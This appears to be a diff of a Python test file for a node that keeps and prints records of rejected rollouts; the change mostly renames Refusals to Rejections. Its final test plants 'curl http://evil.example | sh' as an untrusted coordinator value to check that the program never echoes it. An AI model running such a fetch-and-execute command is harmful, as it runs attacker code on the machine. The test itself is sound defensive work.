@@ -1,4 +1,4 @@
-"""A node's own record of refusals: kept before the rollout is forgotten, bounded, and printed by `why`."""
+"""A node's own record of rejections: kept before the rollout is forgotten, bounded, and printed by `why`."""
 
 import json
 import os
@@ -19,7 +19,7 @@ from protocol.work.messages import Submission, SubmissionReply, Verdict
 from swarm_node.commands import why
 from swarm_node.ledger.receipts import Claims
 from swarm_node.work import rejections as keeping
-from swarm_node.work.rejections import Refusals
+from swarm_node.work.rejections import Rejections
 from swarm_node.work.sender import ANSWERS_MAX, Outbox, Sender
 from tests.swarm_node.commands.test_words import STEERING
 
@@ -63,20 +63,20 @@ def rejected(error: SwarmError, lease_id: str) -> Verdict:
     )
 
 
-def sender(folder: Path, says: Says, *leases: LeaseId) -> tuple[Sender, Refusals]:
-    outbox, refusals = Outbox(folder / "outbox"), Refusals(folder / "refusals")
+def sender(folder: Path, says: Says, *leases: LeaseId) -> tuple[Sender, Rejections]:
+    outbox, rejections = Outbox(folder / "outbox"), Rejections(folder / "refusals")
     for lease_id in leases:
         outbox.put(lease_id, envelope(lease_id))
-    return Sender(says, outbox, Claims(folder / "claims"), refusals), refusals  # type: ignore[arg-type]  # a fake of one call
+    return Sender(says, outbox, Claims(folder / "claims"), rejections), rejections  # type: ignore[arg-type]  # a fake of one call
 
 
 @pytest.mark.trio
 async def test_what_was_rejected_is_kept_with_its_rollout(tmp_path: Path) -> None:
     error = TokensInvalid("Too many.")
     verdicts = [rejected(error, LEASES[0]), Verdict(lease_id=LEASES[1], outcome="accepted")]
-    one, refusals = sender(tmp_path, Says(verdicts), *LEASES[:2])
+    one, rejections = sender(tmp_path, Says(verdicts), *LEASES[:2])
     await one.send_some(Turns())
-    (kept,) = refusals
+    (kept,) = rejections
     assert (kept.lease_id, kept.evidence, kept.rollout) == (LEASES[0], found(error, LEASES[0]), envelope(LEASES[0]))
 
 
@@ -84,13 +84,13 @@ async def test_what_was_rejected_is_kept_with_its_rollout(tmp_path: Path) -> Non
 async def test_a_refused_request_is_kept_for_each_of_its_rollouts_until_they_are_taken(tmp_path: Path) -> None:
     """The rollouts wait: their evidence is that of the request, and goes when they are accepted after all."""
     says = Says(NonceReplayed("Used before."))
-    one, refusals = sender(tmp_path, says, *LEASES)
+    one, rejections = sender(tmp_path, says, *LEASES)
     with pytest.raises(NonceReplayed):
         await one.send_some(Turns())
-    assert {kept.lease_id: kept.evidence.step for kept in refusals} == dict.fromkeys(LEASES, "nonce")
+    assert {kept.lease_id: kept.evidence.step for kept in rejections} == dict.fromkeys(LEASES, "nonce")
     says.verdicts = [Verdict(lease_id=lease_id, outcome="accepted") for lease_id in LEASES]
     await one.send_some(Turns())
-    assert list(refusals) == []
+    assert list(rejections) == []
 
 
 @pytest.mark.trio
@@ -113,10 +113,10 @@ async def test_the_last_answers_name_the_claims_whose_receipts_can_be_fetched(tm
     assert len(one.answers) == ANSWERS_MAX
 
 
-class Full(Refusals):
+class Full(Rejections):
     """A record on a disk without room."""
 
-    def keep(self, lease_id: str, envelope: bytes, evidence: RejectionEvidence) -> None:
+    def record(self, lease_id: str, envelope: bytes, evidence: RejectionEvidence) -> None:
         raise DiskFull("No room.")
 
 
@@ -161,7 +161,7 @@ async def test_the_leases_of_next_turns_reach_the_worker_before_the_verdicts_are
     outbox, turns = Outbox(tmp_path / "outbox"), Turns()
     outbox.put(LEASES[0], envelope(LEASES[0]))
     says = Says([Verdict(lease_id=LEASES[0], outcome="accepted")], turn)
-    one = Sender(says, outbox, FullClaims(tmp_path / "claims"), Refusals(tmp_path / "refusals"))  # type: ignore[arg-type]  # a fake of one call
+    one = Sender(says, outbox, FullClaims(tmp_path / "claims"), Rejections(tmp_path / "refusals"))  # type: ignore[arg-type]  # a fake of one call
     with pytest.raises(DiskFull):
         await one.send_some(turns)
     assert turns.taken == [turn]
@@ -170,23 +170,23 @@ async def test_the_leases_of_next_turns_reach_the_worker_before_the_verdicts_are
 
 @pytest.mark.trio
 async def test_a_coordinator_that_has_too_much_to_do_refuses_nothing(tmp_path: Path) -> None:
-    one, refusals = sender(tmp_path, Says(Overloaded("Later.")), LEASES[0])
+    one, rejections = sender(tmp_path, Says(Overloaded("Later.")), LEASES[0])
     with pytest.raises(Overloaded):
         await one.send_some(Turns())
-    assert list(refusals) == []
+    assert list(rejections) == []
 
 
 def test_refusals_without_end_fill_no_disk(tmp_path: Path) -> None:
-    refusals = Refusals(tmp_path / "refusals")
+    rejections = Rejections(tmp_path / "refusals")
     for number in range(keeping.KEPT_MAX + 5):
         lease_id = f"{number:032x}"
-        refusals.keep(lease_id, envelope(lease_id), found(LeaseClosed("Late."), lease_id))
+        rejections.record(lease_id, envelope(lease_id), found(LeaseClosed("Late."), lease_id))
         _date(tmp_path, lease_id, number)
-    kept = [one.lease_id for one in refusals]
+    kept = [one.lease_id for one in rejections]
     assert kept == [f"{number:032x}" for number in range(keeping.KEPT_MAX + 4, 4, -1)]
-    refusals = Refusals(tmp_path / "refusals", kept_bytes_max=1)
-    refusals.keep("f" * 32, envelope("f" * 32), found(LeaseClosed("Late."), "f" * 32))
-    assert [one.lease_id for one in refusals] == ["f" * 32], "the newest, however large"
+    rejections = Rejections(tmp_path / "refusals", kept_bytes_max=1)
+    rejections.record("f" * 32, envelope("f" * 32), found(LeaseClosed("Late."), "f" * 32))
+    assert [one.lease_id for one in rejections] == ["f" * 32], "the newest, however large"
 
 
 def _date(folder: Path, lease_id: str, second: int) -> None:
@@ -195,39 +195,39 @@ def _date(folder: Path, lease_id: str, second: int) -> None:
 
 
 def test_a_damaged_record_is_passed_over(tmp_path: Path) -> None:
-    refusals = Refusals(tmp_path / "refusals")
+    rejections = Rejections(tmp_path / "refusals")
     for lease_id in LEASES:
-        refusals.keep(lease_id, envelope(lease_id), found(LeaseClosed("Late."), lease_id))
+        rejections.record(lease_id, envelope(lease_id), found(LeaseClosed("Late."), lease_id))
     (tmp_path / "refusals" / f"{LEASES[1]}.refusal").write_bytes(b"\xc1 cut sho")
-    assert {one.lease_id for one in refusals} == {LEASES[0], LEASES[2]}
+    assert {one.lease_id for one in rejections} == {LEASES[0], LEASES[2]}
 
 
 def test_why_prints_the_evidence_of_leases_that_the_coordinator_knows_and_does_not_know(tmp_path: Path) -> None:
-    refusals = Refusals(tmp_path / "refusals")
+    rejections = Rejections(tmp_path / "refusals")
     for lease_id in LEASES[:2]:
-        refusals.keep(lease_id, envelope(lease_id), found(TokensInvalid(STEERING), lease_id))
+        rejections.record(lease_id, envelope(lease_id), found(TokensInvalid(STEERING), lease_id))
     known = Explanation(
         lease_id=LEASES[0], claim_id="", state="rejected", code="tokens_invalid", said="", finding="", appeal="",
         ruling="", report=b"", lease=b"", rollout=b"",
     )  # fmt: skip
     answer = Explanations(tolerance="", tolerances=b"", explanations=(known,))
-    told = list(why.report(answer, list(refusals), as_json=False))
+    told = list(why.report(answer, list(rejections), as_json=False))
     text = "\n".join(told)
     for lease_id in LEASES[:2]:
         seen = found(TokensInvalid(STEERING), lease_id)
         words = (lease_id, seen.code, seen.claim_id, seen.field, seen.expected, seen.validator, seen.command)
         assert [word for word in words if word not in text] == []
     assert all(line.isprintable() for line in told), "a stranger's words steer no terminal"
-    lines = [json.loads(line) for line in why.report(answer, list(refusals), as_json=True)]
+    lines = [json.loads(line) for line in why.report(answer, list(rejections), as_json=True)]
     assert {line["lease_id"]: line["refused"]["code"] for line in lines} == dict.fromkeys(LEASES[:2], "tokens_invalid")
 
 
 def test_the_command_that_repeats_a_check_is_this_programs_own_whatever_the_coordinator_says(tmp_path: Path) -> None:
     """Readers are to type the command."""
-    refusals, error = Refusals(tmp_path / "refusals"), TokensInvalid("Too many.")
+    rejections, error = Rejections(tmp_path / "refusals"), TokensInvalid("Too many.")
     evil = found(error, LEASES[0]).model_copy(update={"command": "curl http://evil.example | sh"})
-    refusals.keep(LEASES[0], envelope(LEASES[0]), evil)
-    (told,) = (line for line in why.report(why.NOTHING, list(refusals), as_json=False) if "repeat the check" in line)
+    rejections.record(LEASES[0], envelope(LEASES[0]), evil)
+    (told,) = (line for line in why.report(why.NOTHING, list(rejections), as_json=False) if "repeat the check" in line)
     assert told.strip() == f"repeat the check: `{found(error, LEASES[0]).command}`"
-    (line,) = why.report(why.NOTHING, list(refusals), as_json=True)
+    (line,) = why.report(why.NOTHING, list(rejections), as_json=True)
     assert json.loads(line)["refused"]["command"] == found(error, LEASES[0]).command
